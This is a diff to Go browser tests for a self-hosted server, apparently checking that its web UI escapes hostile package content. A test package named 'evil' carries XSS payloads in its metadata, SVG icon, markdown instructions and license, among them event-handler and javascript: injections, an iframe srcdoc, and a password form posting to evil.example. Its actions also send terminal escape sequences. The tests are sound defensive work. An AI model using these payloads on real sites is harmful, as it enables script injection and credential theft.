@@ -8,6 +8,7 @@ import (
 	"compress/gzip"
 	"context"
 	"encoding/json"
+	"fmt"
 	"io"
 	"io/fs"
 	"maps"
@@ -19,13 +20,17 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	accountsv1 "github.com/hearthos/hearth/api/gen/go/hearth/accounts/v1"
+	actionsv1 "github.com/hearthos/hearth/api/gen/go/hearth/actions/v1"
+	metav1 "github.com/hearthos/hearth/api/gen/go/hearth/meta/v1"
 	packagesv1 "github.com/hearthos/hearth/api/gen/go/hearth/packages/v1"
 	systemv1 "github.com/hearthos/hearth/api/gen/go/hearth/system/v1"
 	"google.golang.org/protobuf/reflect/protoreflect"
 	"google.golang.org/protobuf/reflect/protoregistry"
 
+	"github.com/hearthos/hearth/api/fault"
 	"github.com/hearthos/hearth/api/registry"
 	"github.com/hearthos/hearth/api/s9pk"
 	"github.com/hearthos/hearth/api/sign"
@@ -36,7 +41,7 @@ import (
 )
 
 // built skips, or fails, without the page as it was built.
-func built(t *testing.T) {
+func built(t testing.TB) {
 	t.Helper()
 	testenv.Require(t, "node", "browser")
 	if _, err := fs.Stat(web.Bundle(), "index.html"); err == nil {
@@ -60,7 +65,7 @@ type way struct {
 	conns map[net.Conn]bool
 }
 
-func newWay(t *testing.T, s *servertest.Server) *way {
+func newWay(t testing.TB, s *servertest.Server) *way {
 	t.Helper()
 	lis, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
@@ -154,9 +159,13 @@ type world struct {
 	*servertest.Server
 	*way
 	local *hearth.Client
+	// change, where given, is what the server is kept busy with while a script wants it so.
+	change func(ctx context.Context)
+	// figures are what scripts measured.
+	figures map[string]float64
 }
 
-func newWorld(t *testing.T) *world {
+func newWorld(t testing.TB) *world {
 	t.Helper()
 	built(t)
 	s := servertest.New(t)
@@ -165,7 +174,7 @@ func newWorld(t *testing.T) *world {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { client.Close() })
-	return &world{s, newWay(t, s), client}
+	return &world{Server: s, way: newWay(t, s), local: client, figures: map[string]float64{}}
 }
 
 var claimCode = regexp.MustCompile(`claim_code=(\S+)`)
@@ -193,8 +202,8 @@ func (w *world) code(t *testing.T) string {
 }
 
 // play runs a script in the browser's driver. What it asks for by a line of its own, as in "cut", is done before it is
-// answered; anything else that it prints is a failure.
-func (w *world) play(t *testing.T, script string, values map[string]any) {
+// answered; a line as in "figure NAME 1.5" is kept; anything else that it prints is a failure.
+func (w *world) play(t testing.TB, script string, values map[string]any) {
 	t.Helper()
 	values["base"], values["contract"], values["shots"] = w.url(), contract(), os.Getenv("HEARTH_SHOTS")
 	given, err := json.Marshal(values)
@@ -216,6 +225,9 @@ func (w *world) play(t *testing.T, script string, values map[string]any) {
 		t.Fatal(err)
 	}
 	done := false
+	var changing sync.WaitGroup
+	rest := func() {}
+	defer func() { rest(); changing.Wait() }()
 	for lines := bufio.NewScanner(out); lines.Scan(); {
 		switch line := lines.Text(); line {
 		case "cut":
@@ -228,10 +240,23 @@ func (w *world) play(t *testing.T, script string, values map[string]any) {
 		case "upgrade":
 			w.Upgrade("9.9.9")
 			w.lead()
+		case "change":
+			ctx, cancel := context.WithCancel(t.Context())
+			rest = cancel
+			changing.Go(func() { w.change(ctx) })
+		case "rest":
+			rest()
+			changing.Wait()
 		case "done":
 			done = true
 		default:
-			t.Error(line)
+			var name string
+			var value float64
+			if n, _ := fmt.Sscanf(line, "figure %s %g", &name, &value); n != 2 {
+				t.Error(line)
+				break
+			}
+			w.figures[name] = value
 		}
 		io.WriteString(in, "\n")
 	}
@@ -267,7 +292,7 @@ func TestAPersonsWay(t *testing.T) {
 }
 
 // install puts a package on the server by its local socket.
-func (w *world) install(t *testing.T, path string) {
+func (w *world) install(t testing.TB, path string) {
 	t.Helper()
 	f, err := os.Open(path)
 	if err != nil {
@@ -287,6 +312,27 @@ func (w *world) install(t *testing.T, path string) {
 	}
 }
 
+// act runs an action once the package is installed and has it.
+func (w *world) act(t testing.TB, pkg, action, input string) {
+	t.Helper()
+	tick := time.NewTicker(20 * time.Millisecond)
+	defer tick.Stop()
+	for {
+		_, err := w.local.Actions.RunAction(t.Context(), &actionsv1.RunActionRequest{PackageId: pkg, ActionId: action, Input: input})
+		if err == nil {
+			return
+		}
+		if !fault.Is(err, metav1.Reason_REASON_ACTION_NOT_FOUND) && !fault.Is(err, metav1.Reason_REASON_PACKAGE_NOT_FOUND) {
+			t.Fatal(err)
+		}
+		select {
+		case <-tick.C:
+		case <-t.Context().Done():
+			t.Fatal(err)
+		}
+	}
+}
+
 // Two tabs with one feed, a connection that is lost and comes back, and a package that means ill.
 func TestThePageStaysInStep(t *testing.T) {
 	t.Parallel()
@@ -295,11 +341,27 @@ func TestThePageStaysInStep(t *testing.T) {
 		t.Fatal(err)
 	}
 	w.install(t, servertest.Package(t, "hello", func(m map[string]any) { m["title"] = "Hello" }))
-	w.install(t, servertest.Package(t, "evil", func(m map[string]any) {
+	w.install(t, servertest.PackageWith(t, "evil", func(m map[string]any) {
 		m["title"] = "<img src=x onerror=__pwned()>"
 		m["description"] = map[string]any{"short": "<script>__pwned()</script>", "long": "<svg onload=__pwned()>"}
 		m["upstreamRepo"], m["license"] = "javascript:__pwned()", "<b onmouseover=__pwned()>"
+	}, map[string]string{
+		"icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9" height="9" onload="top.__pwned()"><script>top.__pwned()</script>` +
+			`<image href="https://evil.example/a.png" width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="top.__pwned()"/></foreignObject></svg>`,
+		"instructions.md": "# What to do\n\nRead <b onclick=__pwned()>this</b>. [Click](javascript:__pwned()) [or](  JaVaScRiPt:__pwned()) [here](data:text/html,x).\n\n" +
+			"![](https://evil.example/b.png) <img src=x onerror=__pwned()> <script>__pwned()</script> <iframe srcdoc='<script>top.__pwned()</script>'></iframe>\n\n" +
+			"<style>body{display:none}</style> <form action='https://evil.example'><input name=password></form> <a href='https://evil.example' style='position:fixed;inset:0'>x</a>\n",
+		"LICENSE.md": "<img src=x onerror=__pwned()> What evil allows",
 	}))
+	// What it prints is as ill meant: markup, and what steers terminals.
+	for _, said := range []string{"<img src=x onerror=__pwned()>", "\u001b]8;;javascript:__pwned()\u001b\\click\u001b]8;;\u001b\\ \u001b[2J\u202edone"} {
+		input, err := json.Marshal(map[string]string{"greeting": said, "color": "#b5442c"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.act(t, "evil", "set-greeting", string(input))
+	}
+	w.act(t, "evil", "tell", `{"level":"error","title":"<img src=x onerror=__pwned()>","message":"[click](javascript:__pwned()) <script>__pwned()</script>"}`)
 	w.play(t, "instep.mjs", map[string]any{"width": 1280, "height": 800, "scheme": "dark"})
 }
 
@@ -398,6 +460,50 @@ func TestWhatIsDoneToServices(t *testing.T) {
 			w.play(t, "walk.mjs", values)
 		})
 	}
+}
+
+// trusting is a home in which a browser trusts the server's root.
+func (w *world) trusting(t testing.TB) string {
+	t.Helper()
+	home := t.TempDir()
+	db := "sql:" + filepath.Join(home, ".pki", "nssdb")
+	if err := os.MkdirAll(strings.TrimPrefix(db, "sql:"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{{"-N", "--empty-password"}, {"-A", "-t", "C,,", "-n", "Hearth", "-i", w.RootFile()}} {
+		if out, err := exec.CommandContext(t.Context(), "certutil", append([]string{"-d", db}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("certutil: %v\n%s", err, out)
+		}
+	}
+	return home
+}
+
+// Somebody comes by plain HTTP: with a browser that does not trust the root, with one that does, with one that begins to.
+func TestFirstContact(t *testing.T) {
+	t.Parallel()
+	for name, look := range looks {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			_, plain, _ := net.SplitHostPort(w.Address("0.0.0.0:8080"))
+			values := maps.Clone(look)
+			values["plain"], values["secure"] = "http://localhost:"+plain, "https://localhost:8443"
+			values["expects"], values["resolve"] = "net::ERR_", "MAP localhost:8443 "+w.Address("0.0.0.0:8443")
+			values["nobody"], values["trusting"] = t.TempDir(), w.trusting(t)
+			w.play(t, "first.mjs", values)
+		})
+	}
+}
+
+// The page is kept by its worker: it opens without the server, and nothing that the server said is in what is kept.
+func TestThePageOpensWithoutTheServer(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	if _, err := w.local.Accounts.ClaimServer(t.Context(), &accountsv1.ClaimServerRequest{Account: "alex", Password: "correct horse battery"}); err != nil {
+		t.Fatal(err)
+	}
+	w.install(t, servertest.Package(t, "hello", func(m map[string]any) { m["title"] = "Hello" }))
+	w.play(t, "worker.mjs", map[string]any{"width": 390, "height": 844, "scheme": "light", "trusting": w.trusting(t)})
 }
 
 // initial is how much JavaScript is loaded before the page is first seen, compressed as servers commonly do, in bytes.
